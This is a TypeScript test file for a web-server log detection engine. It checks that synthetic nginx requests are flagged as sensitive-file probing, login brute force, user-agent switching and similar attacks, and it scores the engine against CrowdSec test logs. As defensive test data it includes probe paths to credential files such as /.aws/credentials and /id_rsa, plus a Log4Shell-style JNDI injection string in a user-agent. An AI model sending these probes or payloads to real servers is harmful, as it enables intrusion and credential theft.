import { readFileSync } from 'node:fs'
import { gunzipSync } from 'node:zlib'
import { expect, it } from 'vitest'
import { detectSql, sourceOf, type Found } from '#lib/detect/detect.ts'
import { detections } from '#lib/detect/detections.ts'
import { toObjects, type Connection } from '#lib/engine/connection.ts'
import { asNginx } from '#lib/sample/lines.ts'
import { traffic } from '#lib/sample/traffic.ts'
import { fieldOf } from '#lib/star/star.ts'
import { openNative } from '../engine/native.ts'
import { needs, shared } from '../needs.ts'
import { filled } from './filled.ts'

const request = (
  path: string,
  { ip = '192.0.2.1', second = 0, status = 404, method = 'GET', agent = 'x' } = {}
) =>
  `${ip} - - [01/Nov/2026:00:00:${String(second).padStart(2, '0')} +0000] "${method} ${path} HTTP/1.1" ${status} 5 "-" "${agent}"`

/** What is found in the hits of a log. */
async function foundIn(connection: Connection, name: string): Promise<Found[]> {
  const log = `(SELECT id FROM words WHERE field = ${fieldOf('token')} AND word = '${name}')`
  const answer = await connection.run(
    detectSql(detections, `(FROM hits WHERE is_request AND token = ${log})`)
  )
  return toObjects<Found>(answer)
}

async function found(...lines: string[]): Promise<Found[]> {
  const connection = await filled([{ name: 'log', lines }])
  try {
    return await foundIn(connection, 'log')
  } finally {
    await connection.close()
  }
}
const namesOf = (all: readonly Found[]) => all.map(({ detection }) => detection).sort()

it('names of detections are their own', () => {
  expect(new Set(detections.map(({ name }) => name)).size).toBe(detections.length)
})

it('a source is an address, or a network of 64 bits in IPv6', async () => {
  const connection = await openNative()
  const given = [
    '192.0.2.1',
    '2001:db8::1',
    '2001:db8:1:2:3:4:5:6',
    '2001:db8:0:5::',
    'fe80::1:2',
    '::1',
    '1::'
  ]
  const { rows } = await connection.run(
    `SELECT ${sourceOf('ip')} FROM (SELECT unnest([${given.map((ip) => `'${ip}'`)}]) AS ip)`
  )
  await connection.close()
  expect(rows.flat()).toEqual([
    '192.0.2.1',
    '2001:db8::/64',
    '2001:db8:1:2::/64',
    '2001:db8:0:5::/64',
    'fe80::/64',
    '::/64',
    '1::/64'
  ])
})

it('five secret files in five seconds are found with what was tried and answered', async () => {
  const paths = ['/.env', '/.git/config', '/.aws/credentials', '/id_rsa', '/web.config']
  const lines = paths.map((path, i) => request(path, { second: i, status: i ? 404 : 200 }))
  const [one, ...others] = await found(...lines)
  expect(others).toEqual([])
  expect(one).toMatchObject({
    detection: 'sensitive',
    source: '192.0.2.1',
    hits: 5,
    answered: 1,
    first: Date.parse('2026-11-01T00:00:00Z'),
    last: Date.parse('2026-11-01T00:00:04Z')
  })
  expect(one!.tried).toHaveLength(3)
  expect(paths).toEqual(expect.arrayContaining(one!.tried))
})

it('the same requests over a longer time, or from more sources, are not', async () => {
  const paths = ['/.env', '/.git/config', '/.aws/credentials', '/id_rsa', '/web.config']
  expect(await found(...paths.map((path, i) => request(path, { second: i * 6 })))).toEqual([])
  expect(await found(...paths.map((path, i) => request(path, { ip: `192.0.2.${i}` })))).toEqual([])
  expect(await found(...Array.from({ length: 5 }, () => request('/.env')))).toEqual([])
})

it('addresses of one network in IPv6 are one source', async () => {
  const paths = ['/.env', '/.git/config', '/.aws/credentials', '/id_rsa', '/web.config']
  const all = await found(...paths.map((path, i) => request(path, { ip: `2001:db8:1:2::${i + 1}` })))
  expect(all.map(({ detection, source }) => [detection, source])).toEqual([
    ['sensitive', '2001:db8:1:2::/64']
  ])
})

it('passwords that are tried are found, and one that is forgotten is not', async () => {
  const login = (second: number) => request('/login', { second, method: 'POST', status: 200 })
  expect(namesOf(await found(...[0, 1, 2, 3, 4, 5].map(login)))).toEqual(['login'])
  expect(await found(...[0, 20, 40].map(login))).toEqual([])
})

it('one source that changes its agent is found', async () => {
  const lines = Array.from({ length: 12 }, (_, i) => request('/', { agent: `agent ${i}`, status: 200 }))
  expect(namesOf(await found(...lines))).toEqual(['agents'])
})

it('an agent that attacks is found by one request', async () => {
  const [one] = await found(request('/', { agent: '${jndi:ldap://192.0.2.7/a}', status: 200 }))
  expect(one).toMatchObject({ detection: 'weakness', answered: 1, tried: ['/'] })
})

/** Which detections answer which scenario of CrowdSec. */
const scenarios: [pattern: RegExp, ...detections: string[]][] = [
  [/http-probing/, 'probing'],
  [/http-sensitive-files/, 'sensitive'],
  [/http-path-traversal-probing/, 'traversal'],
  [/sqli-probbing/, 'sql'],
  [/xss-probbing/, 'script'],
  [/backdoors-attempts/, 'backdoor'],
  [/bad-user-agent/, 'scanner'],
  [/admin-interface-probing/, 'admin'],
  [/wordpress-scan/, 'wordpress'],
  [/wordpress_user-enum/, 'users'],
  [/http-open-proxy/, 'proxy'],
  [/http-generic-bf|apiscp-bf|CVE-2022-41697/, 'login'],
  [/generic-401-bf/, 'unauthorized'],
  [/dos-bypass-cache|dos-random-uri/, 'flood', 'rate'],
  [/dos-swithcing-ua/, 'agents'],
  [/technology-probing|sap-interface/, 'technology'],
  [/cve|vmsa|netgear_rce|w00tw00t|http-generic-test/i, 'weakness']
]

/** Of a scenario that no detection answers. */
const unanswered: (typeof scenarios)[number] = [/./]

interface Test {
  test: string
  lines: string[]
  expect: { scenario: string; sources: string[] }[]
}

needs('shared')('the test logs of CrowdSec', () => {
  const tests = gunzipSync(readFileSync(`${shared}data/attacks/crowdsec.jsonl.gz`))
    .toString()
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Test)

  it('lead to 9 of 10 alerts that are expected, from the right sources', async () => {
    const connection = await filled(tests.map(({ test: name, lines }) => ({ name, lines })))
    const missed: string[] = []
    let all = 0
    try {
      for (const { test, expect: expected } of tests) {
        const found = await foundIn(connection, test)
        for (const { scenario, sources } of expected) {
          const [, ...names] = scenarios.find(([pattern]) => pattern.test(scenario)) ?? unanswered
          for (const source of sources) {
            all++
            const sent = found.filter((one) => one.source === source || one.source === '2001:db8:85a3::/64')
            if (!sent.some(({ detection }) => names.includes(detection)))
              missed.push(`${test}: ${scenario} ${source}, but ${namesOf(sent).join(' ')}`)
          }
        }
        // Applications whose own pages look like probes.
        if (/whitelist/.test(test)) expect(found, test).toEqual([])
      }
    } finally {
      await connection.close()
    }
    expect(all).toBeGreaterThan(90)
    expect(missed.length / all, missed.join('\n')).toBeLessThan(0.1)
  }, 120_000)
})

it('people lead to one alert a day at most', async () => {
  const days = 7
  const to = Date.parse('2026-11-01T00:00:00Z')
  const requests = [...traffic({ seed: 3, from: to - days * 86_400_000, to, hits: 60_000 })]
  const people = requests.filter(({ kind }) => kind === 'person')
  expect(people.length).toBeGreaterThan(20_000)
  const connection = await filled([{ name: 'log', lines: people.map((one) => asNginx(one)) }])
  const all = await foundIn(connection, 'log')
  await connection.close()
  expect(all.length).toBeLessThanOrEqual(days)
}, 120_000)
